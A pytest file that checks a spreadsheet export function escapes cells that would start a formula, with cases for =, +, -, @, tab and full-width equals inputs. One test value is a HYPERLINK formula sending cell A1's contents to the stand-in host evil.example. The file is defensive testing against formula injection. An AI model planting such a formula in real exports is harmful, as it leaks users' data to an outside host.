"""Spreadsheet exports never carry a formula: a cell that would start one is written as text."""

from __future__ import annotations

import pytest

from events.exports import spreadsheet_cell


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("＝1+1", "'＝1+1"),
        ("ZHANG Wei", "ZHANG Wei"),
        ("张伟", "张伟"),
        ("", ""),
    ],
)
def test_export_cells_that_would_start_a_formula_are_text(value, exported):
    assert spreadsheet_cell(value) == exported
